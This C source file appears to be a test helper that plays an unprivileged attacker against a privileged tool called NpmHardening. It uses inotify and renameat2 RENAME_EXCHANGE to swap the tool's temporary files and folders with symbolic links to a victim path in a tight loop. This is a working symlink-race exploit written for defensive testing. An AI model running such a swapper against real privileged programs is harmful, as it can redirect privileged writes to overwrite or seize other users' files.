/*
 * The attacker of Privileged.Tests.ps1: an ordinary user racing a privileged NpmHardening in the user's own folders.
 * Runs until SIGTERM, then prints how many swaps it made (a test that saw no swap proves nothing and fails).
 *
 *   swapper temp <dir> <victim>   inotify on <dir>: each new NpmHardening temporary file is exchanged at once
 *                                 (renameat2 RENAME_EXCHANGE) with a symbolic link to <victim>, and back, repeatedly
 *   swapper dirs <dir> <a> <b>    exchanges the entries <a> and <b> of <dir> (a folder and a symbolic link) in a loop
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;
static unsigned long swaps;

static void on_term(int sig) { (void)sig; stop = 1; }

static int exchange(int dir, const char *a, const char *b)
{
    return (int)syscall(SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE);
}

/* NpmHardening's temporary files (<name>.npmhardening-<random>.tmp); the lock file has its own test */
static int ours(const char *name)
{
    size_t n = strlen(name);
    return strstr(name, ".npmhardening-") != NULL && n > 4 && strcmp(name + n - 4, ".tmp") == 0;
}

static int race_temp(const char *path, const char *victim)
{
    int dir = open(path, O_RDONLY | O_DIRECTORY);
    int in = inotify_init1(0);
    if (dir < 0 || in < 0 || inotify_add_watch(in, path, IN_CREATE | IN_MOVED_TO) < 0) { perror("swapper"); return 2; }
    printf("ready\n");
    fflush(stdout);
    char buffer[64 * 1024];
    while (!stop)
    {
        ssize_t n = read(in, buffer, sizeof buffer);
        if (n <= 0) continue;
        for (char *p = buffer; p < buffer + n;)
        {
            struct inotify_event *e = (struct inotify_event *)p;
            p += sizeof *e + e->len;
            if (e->len == 0 || !ours(e->name)) continue;
            unlinkat(dir, ".swap", 0);
            if (symlinkat(victim, dir, ".swap") != 0) continue;
            /* swap the link in and out a varying number of times, so the writer finds either at the name */
            int times = 1 + (int)(swaps % 8);
            for (int i = 0; i < times; i++)
                if (exchange(dir, ".swap", e->name) == 0) swaps++;
        }
    }
    return 0;
}

static int race_dirs(const char *path, const char *a, const char *b)
{
    int dir = open(path, O_RDONLY | O_DIRECTORY);
    if (dir < 0) { perror("swapper"); return 2; }
    printf("ready\n");
    fflush(stdout);
    while (!stop)
        if (exchange(dir, a, b) == 0) swaps++;
    return 0;
}

int main(int argc, char **argv)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_term; /* no SA_RESTART: a blocked read returns */
    sigaction(SIGTERM, &sa, NULL);
    int rc;
    if (argc == 4 && strcmp(argv[1], "temp") == 0) rc = race_temp(argv[2], argv[3]);
    else if (argc == 5 && strcmp(argv[1], "dirs") == 0) rc = race_dirs(argv[2], argv[3], argv[4]);
    else { fprintf(stderr, "usage: swapper temp <dir> <victim> | swapper dirs <dir> <a> <b>\n"); return 2; }
    printf("swaps %lu\n", swaps);
    return rc;
}
